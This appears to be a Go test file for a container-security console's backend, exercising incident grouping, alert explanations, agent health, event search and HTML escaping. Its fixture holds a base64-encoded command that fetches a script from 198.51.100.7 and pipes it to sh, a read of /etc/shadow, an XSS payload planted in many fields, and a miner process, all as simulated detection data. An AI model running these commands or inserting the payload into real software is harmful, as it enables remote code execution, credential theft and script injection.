package backend

import (
	"encoding/json"
	"log/slog"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/harrier-sec/harrier/api"
)

// hostile is planted in every attacker-controlled field the console shows.
const hostile = `<script>alert(1)</script><img src=x onerror=alert(2)>`

// consoleSite is a backend.Service-like setup with a web-shell attack, an
// unrelated alert on the same node, raw events, a response, and two agents
// (one offline), all through the real Ingest.
type consoleSite struct {
	*testServer
	shellID string // the web shell's first alert
}

func newConsoleSite(t *testing.T) *consoleSite {
	t.Helper()
	clock := t0
	s := openTestStore(t, BadgerConfig{Now: func() time.Time { return clock }})
	at := func(d time.Duration) *timestamppb.Timestamp { return timestamppb.New(t0.Add(d)) }

	// node-2 uploads every 10 s for a minute, then falls silent.
	for i := range 7 {
		clock = t0.Add(time.Duration(i) * 10 * time.Second)
		mustIngest(t, s, "node-2", &api.Batch{Health: &api.AgentHealth{Version: "0.9.0", Kernel: "6.1.0-18-amd64", Node: "node-2"}})
	}

	c := &api.Container{Runtime: "containerd", Id: "c0ffee0000000000000000000000000000000000000000000000000000000001",
		Name: "web", Image: "registry.example/shop/web:1.4" + hostile, PodName: "web-1" + hostile, PodNamespace: "shop",
		PodUid: "uid-web-1", WorkloadKind: "Deployment", WorkloadName: "web", ServiceAccount: "web",
		Labels: map[string]string{"app": "web", "evil": hostile}}
	httpd := &api.Ancestor{Pid: 100, Exe: "/usr/sbin/httpd", Args: []string{"httpd", "-DFOREGROUND"}, Uid: 33, StartTime: at(-time.Hour)}
	shim := &api.Ancestor{Pid: 90, Exe: "/usr/bin/containerd-shim-runc-v2", Args: []string{"containerd-shim-runc-v2", "-id", "c0ffee"}, StartTime: at(-2 * time.Hour)}
	systemd := &api.Ancestor{Pid: 1, Exe: "/usr/lib/systemd/systemd", Args: []string{"/sbin/init"}, StartTime: at(-48 * time.Hour)}
	payload := "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaA== | base64 -d | sh"
	shell := &api.Process{Tgid: 101, Exe: "/bin/sh", Args: []string{"sh", "-c", payload}, Uid: 33, StartTime: at(0)}
	shellAnc := &api.Ancestor{Pid: 101, Exe: "/bin/sh", Args: shell.GetArgs(), Uid: 33, StartTime: at(0)}
	curl := &api.Process{Tgid: 102, Exe: "/usr/bin/curl", Args: []string{"curl", "-s", "http://198.51.100.7/x.sh", hostile}, Uid: 33, StartTime: at(time.Second)}
	cat := &api.Process{Tgid: 103, Exe: "/bin/cat", Args: []string{"cat", "/etc/shadow"}, Uid: 0, StartTime: at(2 * time.Second)}
	webshell := &api.Alert{Id: "ws-shell", DetectionId: "web-shell", Name: "Shell from a web server", Severity: api.Severity_SEVERITY_HIGH,
		Node: "node-1", Cluster: "edge", Count: 1, FirstSeen: at(0), LastSeen: at(0), Container: c, Process: shell,
		Ancestry: []*api.Ancestor{httpd, shim, systemd}, Summary: "httpd started sh -c " + hostile,
		Mitre: []*api.Mitre{{Tactic: "Execution", TechniqueId: "T1059.004", Technique: "Unix Shell"}},
		Evidence: []*api.Event{{Time: at(0), Node: "node-1", Kind: api.EventKind_EVENT_KIND_EXEC, Process: shell, Container: c,
			Detail: &api.Event_Exec{Exec: &api.Exec{Filename: "/bin/sh"}}}}}
	b64 := &api.Alert{Id: "ws-b64", DetectionId: "base64-exec", Name: "Base64 piped to a shell", Severity: api.Severity_SEVERITY_HIGH,
		Node: "node-1", Cluster: "edge", Count: 1, FirstSeen: at(time.Second / 2), LastSeen: at(time.Second / 2), Container: c, Process: shell,
		Ancestry: []*api.Ancestor{httpd, shim, systemd}, Mitre: []*api.Mitre{{Tactic: "Defense Evasion", TechniqueId: "T1140", Technique: "Deobfuscate/Decode"}}}
	shadow := &api.Alert{Id: "ws-shadow", DetectionId: "sensitive-files", Name: "Read of shadow file", Severity: api.Severity_SEVERITY_CRITICAL,
		Node: "node-1", Cluster: "edge", Count: 1, FirstSeen: at(2 * time.Second), LastSeen: at(2 * time.Second), Container: c, Process: cat,
		Ancestry: []*api.Ancestor{shellAnc, httpd, shim, systemd}, Mitre: []*api.Mitre{{Tactic: "Credential Access", TechniqueId: "T1003.008"}},
		Evidence: []*api.Event{{Time: at(2 * time.Second), Node: "node-1", Kind: api.EventKind_EVENT_KIND_FILE_OPEN, Process: cat,
			Detail: &api.Event_FileOpen{FileOpen: &api.FileOpen{Path: "/etc/shadow" + hostile, Read: true}}}}}
	// Same node, another container, another time of day: its own story.
	other := &api.Alert{Id: "db-miner", DetectionId: "site-miner", Name: "Crypto miner", Severity: api.Severity_SEVERITY_MEDIUM,
		Node: "node-1", Cluster: "edge", Count: 3, FirstSeen: at(time.Minute), LastSeen: at(2 * time.Minute),
		Container: &api.Container{Runtime: "containerd", Id: "dbdbdb", PodName: "db-0", PodNamespace: "data", Image: "postgres:16"},
		Process:   &api.Process{Tgid: 501, Exe: "/tmp/xmrig", Args: []string{"xmrig"}, StartTime: at(time.Minute)},
		Ancestry:  []*api.Ancestor{{Pid: 500, Exe: "/usr/bin/postgres", StartTime: at(-time.Hour)}, {Pid: 490, Exe: "/usr/bin/runc"}, systemd},
		Mitre:     []*api.Mitre{{Tactic: "Impact", TechniqueId: "T1496", Technique: "Resource Hijacking"}}}
	// An older web-shell alert on another replica of the same image: similar.
	earlier := &api.Alert{Id: "ws-earlier", DetectionId: "web-shell", Name: "Shell from a web server", Severity: api.Severity_SEVERITY_HIGH,
		Node: "node-3", Cluster: "edge", Count: 1, FirstSeen: at(-5 * time.Hour), LastSeen: at(-5 * time.Hour),
		Container: &api.Container{Runtime: "containerd", Id: "old", PodName: "web-0", PodNamespace: "shop", Image: c.GetImage()},
		Process:   &api.Process{Tgid: 77, Exe: "/bin/sh", Args: []string{"sh"}}}

	ev := func(seq uint64, e *api.Event) *api.Record { return eventRec(seq, e) }
	now := t0.Add(10 * time.Minute)
	clock = now.Add(-20 * time.Second)
	mustIngest(t, s, "node-1", &api.Batch{
		Health: &api.AgentHealth{Version: "1.0.0", Kernel: "6.8.0-45-generic" + hostile, Node: "node-1", Cluster: "edge",
			Probes: []*api.ProbeHealth{{Name: "exec", Attached: true, Attach: "tracepoint/sched/sched_process_exec"},
				{Name: "dns", Attached: false, Error: "kprobe udp_sendmsg: not found" + hostile}},
			Drops: map[string]uint64{"kernel_ring_full": 12, "sensor_queue": 3}, SpoolRecords: 40, SpoolBytes: 3 << 20,
			SpoolOldest: at(-time.Minute), CpuCores: 0.5, RssBytes: 120 << 20, ResponsePoliciesSource: "backend", ResponsePoliciesVersion: 4},
		Records: []*api.Record{
			ev(1, &api.Event{Time: at(time.Second), Node: "node-1", Kind: api.EventKind_EVENT_KIND_EXEC, Process: curl, Container: c,
				Ancestry: []*api.Ancestor{shellAnc, httpd, shim, systemd}, Detail: &api.Event_Exec{Exec: &api.Exec{Filename: "/usr/bin/curl"}}}),
			ev(2, &api.Event{Time: at(time.Second + time.Millisecond), Node: "node-1", Kind: api.EventKind_EVENT_KIND_CONNECT, Process: curl, Container: c,
				Ancestry: []*api.Ancestor{shellAnc, httpd, shim, systemd},
				Detail:   &api.Event_Connect{Connect: &api.Connect{Destination: &api.SocketAddress{Family: "ipv4", Ip: "198.51.100.7", Port: 80}}}}),
			ev(3, &api.Event{Time: at(3 * time.Second), Node: "node-1", Kind: api.EventKind_EVENT_KIND_RESPONSE, Process: shell,
				Detail: &api.Event_Response{Response: &api.Response{AlertId: "ws-shell", Policy: "kill-web-shells", Mode: "enforce",
					Action: "kill-process-tree", Outcome: "done", Target: "process 101", Pids: []uint32{101, 102}}}}),
			alertRec(4, webshell), alertRec(5, b64), alertRec(6, shadow), alertRec(7, other),
		},
	})
	mustIngest(t, s, "node-3", &api.Batch{Records: []*api.Record{alertRec(1, earlier)}})
	h := NewAPI(s, APIConfig{Token: testToken, Now: func() time.Time { return now }}, slog.New(slog.DiscardHandler))
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return &consoleSite{testServer: &testServer{Server: srv, store: s}, shellID: "ws-shell"}
}

// wantHTML checks a page: 200, every want present, no live markup from
// the hostile strings.
func wantHTML(t *testing.T, ts *testServer, path string, want ...string) string {
	t.Helper()
	r := ts.authGet(t, path)
	if r.code != 200 {
		t.Fatalf("%s: %d %.500s", path, r.code, r.body)
	}
	for _, w := range want {
		if !strings.Contains(r.body, w) {
			t.Errorf("%s lacks %q", path, w)
		}
	}
	for _, bad := range []string{"<script>", "<img", "onerror=alert(2)>"} {
		if strings.Contains(r.body, bad) {
			t.Errorf("%s contains unescaped %q", path, bad)
		}
	}
	return r.body
}

func TestConsoleIncidents(t *testing.T) {
	site := newConsoleSite(t)
	var list struct {
		Incidents []Incident `json:"incidents"`
	}
	r := site.authGet(t, "/api/v1/incidents")
	if r.code != 200 {
		t.Fatalf("%d %s", r.code, r.body)
	}
	if err := json.Unmarshal([]byte(r.body), &list); err != nil {
		t.Fatal(err)
	}
	if len(list.Incidents) != 3 {
		t.Fatalf("%d incidents, want 3 (web shell, miner, the earlier web shell): %s", len(list.Incidents), r.body)
	}
	top := list.Incidents[0]
	if top.Alerts != 3 || top.Severity != api.Severity_SEVERITY_CRITICAL || !slices.Equal(top.Tactics, []string{"Execution", "Defense Evasion", "Credential Access"}) ||
		!slices.Equal(top.Nodes, []string{"node-1"}) || len(top.Pods) != 1 || !strings.HasPrefix(top.Pods[0], "shop/web-1") {
		t.Errorf("web-shell incident %+v", top)
	}
	if !strings.Contains(r.body, `"severity":"critical"`) {
		t.Errorf("severity not by name: %s", r.body)
	}

	var one struct {
		Incident Incident          `json:"incident"`
		Alerts   []json.RawMessage `json:"alerts"`
	}
	r = site.authGet(t, "/api/v1/incidents/"+top.ID)
	if err := json.Unmarshal([]byte(r.body), &one); err != nil || r.code != 200 {
		t.Fatalf("%d %v %s", r.code, err, r.body)
	}
	if !slices.Equal(one.Incident.AlertIDs, []string{"ws-shell", "ws-b64", "ws-shadow"}) || len(one.Alerts) != 3 {
		t.Errorf("timeline %v, %d alerts", one.Incident.AlertIDs, len(one.Alerts))
	}
	if r := site.authGet(t, "/api/v1/incidents/inc-nope"); r.code != 404 {
		t.Errorf("unknown incident: %d", r.code)
	}
	if r := site.authGet(t, "/api/v1/incidents?severity=urgent"); r.code != 400 {
		t.Errorf("bad severity: %d", r.code)
	}
	if r := site.get(t, "/api/v1/incidents", nil); r.code != 401 {
		t.Errorf("without a token: %d", r.code)
	}

	wantHTML(t, site.testServer, "/incidents", `href="/incidents/`+top.ID+`"`, "Execution → Defense Evasion → Credential Access", "sensitive-files, base64-exec, web-shell on shop/web-1&lt;script&gt;")
	body := wantHTML(t, site.testServer, "/incidents/"+top.ID, `href="/alerts/ws-shell"`, `href="/alerts/ws-b64"`, `href="/alerts/ws-shadow"`,
		`<li class="on">Credential Access</li>`, `<li>Impact</li>`, "registry.example/shop/web:1.4&lt;script&gt;",
		// The incident's process tree: the shadow read under the shell under httpd, inside the boundary.
		"<h3>node-1</h3>", "container boundary", `← alert <a href="/alerts/ws-shell">`, `← alert <a href="/alerts/ws-shadow">`)
	if i, j := strings.Index(body, `<strong class="mono">/usr/sbin/httpd</strong>`), strings.Index(body, `<strong class="mono">/bin/cat</strong>`); i < 0 || j < i {
		t.Error("the incident's tree does not put cat under httpd")
	}
	timeline := body[strings.Index(body, "<h2>Timeline</h2>"):]
	if a, b, c := strings.Index(timeline, "/alerts/ws-shell"), strings.Index(timeline, "/alerts/ws-b64"), strings.Index(timeline, "/alerts/ws-shadow"); a < 0 || a > b || b > c {
		t.Error("timeline not in first-seen order")
	}
}

func TestConsoleAlertExplanation(t *testing.T) {
	site := newConsoleSite(t)
	body := wantHTML(t, site.testServer, "/alerts/ws-shell",
		// The sentence.
		"sh (pid 101, uid 33), started by httpd, in pod shop/web-1&lt;script&gt;",
		"triggered &#34;Shell from a web server&#34; (high)", "a response was taken",
		`Part of incident <a href="/incidents/inc-`,
		// The tree: host above the boundary, the shell, the child from raw events.
		"container boundary: the processes below run in the container",
		`<strong class="mono">/usr/lib/systemd/systemd</strong> <span class="muted">host, root`,
		`<strong class="mono">/usr/sbin/httpd</strong> <span class="muted">container, uid 33`,
		"← <strong>this alert</strong>",
		`<strong class="mono">/usr/bin/curl</strong>`, "· connect 198.51.100.7:80",
		// The shadow read, a child alert.
		`<strong class="mono">/bin/cat</strong> <span class="muted">container, root`, `alert <a href="/alerts/ws-shadow">Read of shadow file</a>`,
		// Payload decoded beside the raw text.
		"curl -s http://198.51.100.7/x.sh | sh",
		// Kubernetes object.
		"Deployment <strong>web</strong>", "evil=&lt;script&gt;",
		// The rule.
		"<span class=\"mono\">web-shell</span>", "built-in Go detector", "1 × exec",
		// The response.
		"kill-process-tree", "<strong>done</strong>", "process 101",
		// Peers and files of what followed: curl's connection.
		`<div class="mono">198.51.100.7:80 (connect)</div>`, `<div class="mono">/usr/bin/curl (executed)</div>`,
		// Similar: the earlier one on the same image.
		`href="/alerts/ws-earlier"`,
	)
	if strings.Contains(body, `href="/alerts/db-miner"`) {
		t.Error("the miner is not similar to the web shell")
	}
	var ex struct {
		Explanation struct {
			Sentence string `json:"sentence"`
			Incident string `json:"incident"`
			Tree     *struct {
				Exe      string `json:"exe"`
				Host     bool   `json:"host"`
				Children []json.RawMessage
			} `json:"tree"`
			Payloads []CmdPayloads `json:"payloads"`
			Rule     *RuleView     `json:"rule"`
			Similar  []string      `json:"similar"`
			Peers    []string      `json:"peers"`
		} `json:"explanation"`
	}
	r := site.authGet(t, "/api/v1/alerts/ws-shell/explanation")
	if err := json.Unmarshal([]byte(r.body), &ex); err != nil || r.code != 200 {
		t.Fatalf("explanation: %d %v %.300s", r.code, err, r.body)
	}
	e := ex.Explanation
	if !strings.Contains(e.Sentence, "started by httpd") || !strings.HasPrefix(e.Incident, "inc-") || e.Tree == nil ||
		e.Tree.Exe != "/usr/lib/systemd/systemd" || !e.Tree.Host || len(e.Payloads) != 1 ||
		e.Payloads[0].Payloads[0].Decoded != "curl -s http://198.51.100.7/x.sh | sh" || e.Rule == nil || e.Rule.Detector != "web-shell" ||
		!slices.Equal(e.Similar, []string{"ws-earlier"}) || !slices.Contains(e.Peers, "198.51.100.7:80 (connect)") {
		t.Errorf("explanation %+v", e)
	}
	if r := site.authGet(t, "/api/v1/alerts/nope/explanation"); r.code != 404 {
		t.Errorf("unknown alert's explanation: %d", r.code)
	}
	wantHTML(t, site.testServer, "/alerts/ws-shadow", "/etc/shadow&lt;script&gt;", "(read)", "<pre>(file.path.startsWithAny(sensitive_paths)")
	wantHTML(t, site.testServer, "/alerts/db-miner", "No response recorded", "Not a built-in rule")
}

func TestConsoleAgents(t *testing.T) {
	site := newConsoleSite(t)
	body := wantHTML(t, site.testServer, "/agents", "3 agents, <strong>1 offline</strong>",
		"<strong>offline: silent 9m00s</strong>", "usually every 10s", "6.8.0-45-generic&lt;script&gt;",
		"1 of 2 attached", "lacks: kprobe udp_sendmsg: not found&lt;script&gt;", "kernel_ring_full: <strong>12</strong>",
		`value="138"`, "CPU 500m", "RSS 120.0 MiB", "40 records, 3.0 MiB", "oldest 11m00s", "response: backend v4", "360m CPU, 296.0 MiB RSS", "no probes reported")
	// Offline first.
	if strings.Index(body, "node-2") > strings.Index(body, "node-1") {
		t.Error("the offline agent is not listed first")
	}
	if n := strings.Count(body, "<meter"); n != 4 {
		t.Errorf("%d meters, want CPU and RSS of the two agents with health", n)
	}
	if n := strings.Count(body, `class="stale"`); n != 1 {
		t.Errorf("%d agents marked offline, want 1", n)
	}
}

func TestConsoleOverview(t *testing.T) {
	site := newConsoleSite(t)
	body := wantHTML(t, site.testServer, "/overview?range=24h", "5 alerts, 3 incidents", "Alerts first seen", "Incidents started",
		`class="s-critical"`, "<strong>Credential Access</strong>", "T1059.004 Unix Shell <strong>1</strong>",
		"No exports configured.", "Top incidents")
	if t.Failed() {
		i := strings.Index(body, "<h1>")
		t.Logf("%s", body[i:min(len(body), i+3000)])
	}
	// The earlier web shell, 5 h before t0, is in range.
	rects := regexp.MustCompile(`<rect x="\d+" y="\d+" width="\d+" height="\d+" class="s-`).FindAllString(body, -1)
	if len(rects) < 4 {
		t.Errorf("%d bars drawn", len(rects))
	}
	if r := site.authGet(t, "/overview?range=1y"); r.code != 400 || !strings.Contains(r.body, "range") {
		t.Errorf("bad range: %d", r.code)
	}
}

func TestConsoleEventsExplorer(t *testing.T) {
	site := newConsoleSite(t)
	since := t0.Add(-time.Minute).UTC().Format(time.RFC3339)
	tests := []struct {
		query string
		want  []string // kinds, newest first
	}{
		{"node=node-1", []string{"response", "connect", "exec"}},
		{"pid=101&node=node-1", []string{"response", "connect", "exec"}}, // the shell and what it started
		{"pid=102", []string{"connect", "exec"}},
		{"dest=198.51.100.7:80", []string{"connect"}},
		{"dest=198.51.100", []string{"connect"}},
		{"file=/usr/bin/curl", []string{"exec"}},
		{"pod=shop/web-1", []string{"connect", "exec"}},
		{"process=curl&kind=exec", []string{"exec"}},
		{"until=" + since, nil},
		{"since=" + since + "&until=" + t0.Add(time.Second+time.Millisecond/2).UTC().Format(time.RFC3339Nano), []string{"exec"}},
		{"pod=db-0", nil},
	}
	for _, tc := range tests {
		t.Run(tc.query, func(t *testing.T) {
			r := site.authGet(t, "/api/v1/events?"+tc.query)
			if r.code != 200 {
				t.Fatalf("%d %s", r.code, r.body)
			}
			var list struct {
				Events []struct {
					Kind string `json:"kind"`
				} `json:"events"`
			}
			if err := json.Unmarshal([]byte(r.body), &list); err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, e := range list.Events {
				got = append(got, strings.ToLower(strings.TrimPrefix(e.Kind, "EVENT_KIND_")))
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("kinds %v, want %v", got, tc.want)
			}
		})
	}
	for _, bad := range []string{"pid=x", "pid=0", "until=yesterday", "colour=red"} {
		if r := site.authGet(t, "/api/v1/events?"+bad); r.code != 400 {
			t.Errorf("%s: %d, want 400", bad, r.code)
		}
	}
	wantHTML(t, site.testServer, "/events?node=node-1&pid=101", "connect 198.51.100.7:80", "exec /usr/bin/curl",
		`href="/events?node=node-1&amp;pid=102"`, "shop/web-1&lt;script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;")
	if r := site.authGet(t, "/events?pid=x"); r.code != 400 || !strings.Contains(r.body, `class="error"`) {
		t.Errorf("bad pid in the explorer: %d", r.code)
	}
	// The pivot from the alert.
	wantHTML(t, site.testServer, "/alerts/ws-shell", `href="/events?node=node-1&amp;pid=101&amp;since=2026-11-22T15%3a59%3a00Z"`)
}

// TestConsoleEscapesEverything tokenizes every console page of the site
// whose alerts, events, labels and agent health carry HTML and script: no
// page has a script element, an event-handler attribute, or an element
// the templates do not write.
func TestConsoleEscapesEverything(t *testing.T) {
	site := newConsoleSite(t)
	incs, err := site.store.Incidents(t.Context(), IncidentQuery{})
	if err != nil {
		t.Fatal(err)
	}
	pages := []string{"/", "/incidents", "/agents", "/overview", "/overview?range=7d", "/events", "/events?pid=101", "/exceptions", "/users"}
	for _, inc := range incs {
		pages = append(pages, "/incidents/"+inc.ID)
	}
	for _, id := range []string{"ws-shell", "ws-b64", "ws-shadow", "db-miner", "ws-earlier"} {
		pages = append(pages, "/alerts/"+id)
	}
	allowed := map[string]bool{}
	for _, e := range strings.Fields(`html head meta title style body header main a span h1 h2 h3 p div form label select option
		input button table thead tbody tr th td dl dt dd ol li details summary pre code strong br figure figcaption svg rect text meter
		section textarea nav`) {
		allowed[e] = true
	}
	for _, path := range pages {
		body := wantHTML(t, site.testServer, path)
		z := html.NewTokenizer(strings.NewReader(body))
		for {
			tt := z.Next()
			if tt == html.ErrorToken {
				break
			}
			if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
				continue
			}
			tok := z.Token()
			if !allowed[tok.Data] {
				t.Errorf("%s: element <%s>", path, tok.Data)
			}
			for _, a := range tok.Attr {
				if strings.HasPrefix(a.Key, "on") || (a.Key == "href" && strings.HasPrefix(strings.ToLower(a.Val), "javascript:")) {
					t.Errorf("%s: <%s %s=%q>", path, tok.Data, a.Key, a.Val)
				}
			}
		}
	}
}

func TestUsualGap(t *testing.T) {
	tests := []struct {
		name       string
		usual, gap time.Duration
		want       time.Duration
	}{
		{"first gap", 0, 10 * time.Second, 10 * time.Second},
		{"steady", 10 * time.Second, 10 * time.Second, 10 * time.Second},
		{"a little slower", 10 * time.Second, 20 * time.Second, 11 * time.Second},
		{"an outage counts as ten gaps at most", 10 * time.Second, time.Hour, 19 * time.Second},
		{"clock went back", 10 * time.Second, -time.Minute, 10 * time.Second},
	}
	for _, tc := range tests {
		if got := usualGap(tc.usual, tc.gap); got != tc.want {
			t.Errorf("%s: usualGap(%v, %v) = %v, want %v", tc.name, tc.usual, tc.gap, got, tc.want)
		}
	}
}

func TestAgentsAPIOffline(t *testing.T) {
	site := newConsoleSite(t)
	var list struct {
		Agents []agentJSON `json:"agents"`
	}
	r := site.authGet(t, "/api/v1/agents")
	if err := json.Unmarshal([]byte(r.body), &list); err != nil || r.code != 200 {
		t.Fatalf("%d %v", r.code, err)
	}
	offline := map[string]bool{}
	for _, a := range list.Agents {
		offline[a.AgentID] = a.Offline
		if a.AgentID == "node-2" && a.UsualGapSeconds != 10 {
			t.Errorf("node-2 usual gap %v s, want 10", a.UsualGapSeconds)
		}
	}
	if !offline["node-2"] || offline["node-1"] || offline["node-3"] {
		t.Errorf("offline %v, want node-2 only", offline)
	}
}

func TestProcNameAndHostHub(t *testing.T) {
	for _, tc := range []struct {
		exe  string
		args []string
		want string
	}{
		{"/usr/bin/curl", []string{"curl", "-s"}, "curl"},
		{"/bin/busybox", []string{"/bin/sh", "-c", "id"}, "sh"},
		{"/bin/busybox", nil, "busybox"},
		{"", []string{"/process_api", "--addr"}, "process_api"},
		{"", nil, ""},
		{"/tmp/x (deleted)", []string{"x"}, "x"},
	} {
		if got := procName(tc.exe, tc.args); got != tc.want {
			t.Errorf("procName(%q, %q) = %q, want %q", tc.exe, tc.args, got, tc.want)
		}
	}
	chain := []*api.Ancestor{{Pid: 30, Exe: "/bin/sh"}, {Pid: 20, Exe: "/usr/sbin/httpd"}, {Pid: 1, Exe: ""}}
	if got := hostHub(chain); got != 2 {
		t.Errorf("hostHub = %d, want 2 (PID 1)", got)
	}
	if got := hostHub(chain[:2]); got != -1 {
		t.Errorf("hostHub without init = %d, want -1", got)
	}
}
